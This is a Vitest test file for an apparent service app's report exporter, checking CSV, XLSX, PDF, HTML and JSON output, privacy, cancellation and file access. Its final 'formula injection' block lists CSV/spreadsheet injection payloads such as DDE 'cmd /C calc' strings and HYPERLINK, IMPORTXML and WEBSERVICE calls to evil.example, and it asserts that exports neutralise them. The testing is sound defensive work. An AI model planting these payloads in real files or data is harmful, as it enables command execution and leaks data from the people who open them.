import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { execFileSync, spawnSync } from 'node:child_process'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import readXlsxFile from 'read-excel-file/node'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import type { PdfPrinter, PdfResult } from '../../../electron/core/ports.ts'
import { browserPrinter } from '../../../electron/host/node/pdf-printer.ts'
import { reportSections } from '../../../shared/reports/sections.ts'
import { createTestApp, type TestApp } from '../../support/create-test-app.ts'
import { draftOf, takeIn } from '../../support/intake.ts'
import { ended, exported } from '../../support/reports.ts'
import type { TestClient } from '../../support/test-client.ts'

const today = { from: '2026-03-02', to: '2026-03-02' }
const quiet = { info: () => {}, warn: () => {}, error: () => {} }
const soffice = spawnSync('soffice', ['--version']).status === 0

let bench: TestApp
let manager: TestClient
let dir: string

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'carebench-export-'))
  bench = await createTestApp({ ports: { pdf: browserPrinter(quiet) } })
  manager = await bench.setUp()
  await takeIn(manager)
})
afterAll(async () => {
  await bench.close()
  rmSync(dir, { recursive: true, force: true })
})

/** The rows of one sheet. */
async function sheet(book: Uint8Array, name: string) {
  const sheets = await readXlsxFile(Buffer.from(book))
  return sheets.find((one) => one.sheet === name)?.data ?? []
}

const all = { sections: [...reportSections], personal: true }

it('writes CSV that another parser reads, every line as wide as the others', async () => {
  const bytes = await exported(manager, today, 'csv', {
    ...all,
    language: 'cs',
    csv: { separator: ';', bom: true, for: 'programs' },
  })
  expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
  const rows = z
    .array(z.array(z.string()))
    .parse(parse(Buffer.from(bytes), { delimiter: ';', bom: true, record_delimiter: '\r\n' }))
  expect(new Set(rows.map((row) => row.length)).size).toBe(1)
  expect(rows).toContainEqual(
    expect.arrayContaining(['Seznam zakázek', 'Přijaté zakázky', 'RMA-PRG-2026-100001', 'Žofie Příhodová']),
  )
})

it('writes XLSX with typed cells that another library reads', async () => {
  const file = Buffer.from(await exported(manager, today, 'xlsx', all))
  expect(await readXlsxFile(file)).toHaveLength(1 + reportSections.length)
  const cases = await sheet(file, 'List of cases')
  expect(cases[1]?.slice(0, 2)).toEqual(['RMA-PRG-2026-100001', new Date('2026-03-02T09:00:00Z')])
  const hours = await sheet(file, 'Intakes')
  expect(hours).toContainEqual(['Units checked in', 1])
})

it.skipIf(!soffice)(
  'opens in LibreOffice (skipped where it is not installed)',
  async () => {
    const path = join(dir, 'report.xlsx')
    writeFileSync(path, await exported(manager, today, 'xlsx', all))
    const profile = `-env:UserInstallation=file://${join(dir, 'profile')}`
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1'
    execFileSync('soffice', [profile, '--headless', '--convert-to', filter, '--outdir', dir, path], {
      stdio: 'pipe',
    })
    const intakes = readFileSync(join(dir, 'report-Intakes.csv'), 'utf8')
    expect(intakes).toContain('Units checked in,1')
  },
  60_000,
)

it('prints a PDF whose text says the figures, with page numbers', async () => {
  const path = join(dir, 'report.pdf')
  writeFileSync(path, await exported(manager, today, 'pdf', { ...all, language: 'cs' }))
  const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })
  expect(text).toMatch(/Přijaté přístroje\s+1/)
  expect(text).toMatch(/strana 1 z \d/)
  expect(text).toContain('Servis Praha')
})

it('begins a PDF with one page that says it all, and puts a head and a number on every sheet', async () => {
  const path = join(dir, 'summary.pdf')
  const printed = await exported(manager, today, 'pdf', { ...all, language: 'en' })
  writeFileSync(path, printed)
  const pages = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })
    .replaceAll('\u00a0', ' ')
    .split('\f')
    .slice(0, -1)
  expect(pages.length).toBeGreaterThan(1)
  expect(pages[0]).toMatch(/Units checked in\s+1/)
  expect(pages[0]).toContain('Open promises')
  expect(pages[0]).not.toContain('Latest hash')
  expect(pages[1]).toContain('Latest hash')
  for (const [at, words] of pages.entries()) {
    expect(words).toContain('Servis Praha · Monday, 2 March 2026')
    expect(words).toContain(`page ${at + 1} of ${pages.length}`)
  }
})

it('writes the same summary as a letter that needs nothing from outside', async () => {
  const letter = new TextDecoder().decode(await exported(manager, today, 'html', { ...all, language: 'cs' }))
  expect(letter).toContain('Srovnání s obvyklým')
  expect(letter).toContain('Přijaté přístroje')
  expect(letter).not.toMatch(/<(script|link|img|svg|style)|url\(|Příhodová/)
})

it('leaves names out unless they are asked for, in every format', async () => {
  for (const format of ['csv', 'json', 'xlsx'] as const) {
    const bytes = await exported(manager, today, format, { ...all, personal: false })
    const text =
      format === 'xlsx'
        ? JSON.stringify(await sheet(bytes, 'List of cases'))
        : new TextDecoder().decode(bytes)
    expect(text).not.toContain('Příhodová')
    expect(text).not.toContain('Nováková')
  }
})

it('records each export and remembers the choices of the person', async () => {
  await exported(manager, today, 'json', { ...all, language: 'cs', hiddenColumns: ['cases.serial'] })
  const { rows } = await manager.need('reports.records', {
    ...today,
    filter: { types: ['report.exported'] },
  })
  expect(rows[0]).toMatchObject({ type: 'report.exported', actor: 'Marie Nováková' })
  expect(await manager.need('reports.choices', {})).toMatchObject({
    language: 'cs',
    personal: true,
    hiddenColumns: ['cases.serial'],
  })
})

it('stops when it is told to, and records nothing then', async () => {
  const count = async () =>
    (await manager.need('reports.records', { ...today, filter: { types: ['report.exported'] } })).total
  const before = await count()
  const choices = await manager.need('reports.choices', {})
  const { job, file } = await manager.need('reports.export', {
    from: '2020-01-01',
    to: '2026-12-31',
    format: 'csv',
    choices,
  })
  await manager.need('reports.cancel', { job })
  expect(await ended(manager, job)).toBe('cancelled')
  expect((await manager.fetch(`/files/report/${file}`)).status).toBe(404)
  expect(await count()).toBe(before)
})

it('stops a print that has begun', async () => {
  const begun = Promise.withResolvers<undefined>()
  const endless: PdfPrinter = {
    print(_, signal) {
      begun.resolve(undefined)
      const { promise, reject } = Promise.withResolvers<PdfResult>()
      signal?.addEventListener('abort', () => reject(new Error('stopped')), { once: true })
      return promise
    },
  }
  await using own = await createTestApp({ ports: { pdf: endless } })
  const line = await own.setUp()
  const choices = await line.need('reports.choices', {})
  const { job } = await line.need('reports.export', { ...today, format: 'pdf', choices })
  await begun.promise
  await line.need('reports.cancel', { job })
  expect(await ended(line, job)).toBe('cancelled')
})

it('gives a file to nobody but the one who asked for it', async () => {
  const choices = await manager.need('reports.choices', {})
  const { job, file } = await manager.need('reports.export', { ...today, format: 'json', choices })
  await ended(manager, job)
  const other = await bench.signInAs('Jiný Vedoucí', ['manager'])
  expect((await other.fetch(`/files/report/${file}`)).status).toBe(404)
  const technician = await bench.signInAs('Tereza', ['technician'])
  expect((await technician.fetch(`/files/report/${file}`)).status).toBe(403)
})

describe('formula injection', () => {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '|', '%']
  const bodies = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"ok")',
    '1+1',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    "2+5+cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    '"=1"',
    ';=1',
    ',=1',
    '\n=1',
    '1"&"2',
    "'x",
    'A1:Z9',
    'INDIRECT("A1")',
    'RTD("x",,"y")',
    'CALL("u","v")',
    'EXEC("calc")',
    '<script>alert(1)</script>',
  ]
  const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`))

  it('is inert in all formats for 200 payloads', async () => {
    expect(payloads).toHaveLength(200)
    await using own = await createTestApp({ ports: { pdf: browserPrinter(quiet) } })
    const line = await own.setUp()
    for (const [n, name] of payloads.entries()) {
      const serial = `095XE17${String(n).padStart(7, '0')}`
      const customer = { ...draftOf().customer, name: `x${name}`.slice(1) }
      await takeIn(line, { serial, serialRaw: serial, customer, words: 'x' }).catch((error: unknown) => {
        // Names that the intake itself does not take never reach a report.
        expect(String(error)).toContain('refused')
      })
    }
    for (const separator of [';', ',', '\t'] as const) {
      const bytes = await exported(line, today, 'csv', {
        ...all,
        csv: { separator, bom: true, for: 'programs' },
      })
      const rows = z
        .array(z.array(z.string()))
        .parse(parse(Buffer.from(bytes), { delimiter: separator, bom: true, record_delimiter: '\r\n' }))
      const cells = rows.flat().filter((cell) => !/^-?\d+([.,]\d+)?$/.test(cell))
      expect(cells.filter((cell) => /^\s*[=+\-@＝|%\t\r]/.test(cell))).toEqual([])
    }
    const book = Buffer.from(await exported(line, today, 'xlsx', all))
    const { unzipSync, strFromU8 } = await import('fflate')
    const sheets = Object.entries(unzipSync(new Uint8Array(book))).filter(([path]) => path.endsWith('.xml'))
    expect(sheets.filter(([, xml]) => /<f[ >]|<hyperlink|ddeLink|externalLink/.test(strFromU8(xml)))).toEqual(
      [],
    )
    const read = await sheet(book, 'List of cases')
    expect(read.length).toBeGreaterThan(150)
    const json = new TextDecoder().decode(await exported(line, today, 'json', all))
    expect(() => z.unknown().parse(JSON.parse(json))).not.toThrow()
    // A PDF of them runs nothing, opens nothing and leads nowhere.
    const pdf = Buffer.from(await exported(line, today, 'pdf', all)).toString('latin1')
    expect(pdf.startsWith('%PDF')).toBe(true)
    expect(pdf).not.toMatch(/\/(JavaScript|JS|URI|Launch|OpenAction|AA|SubmitForm|EmbeddedFile)\b/)
  })
})
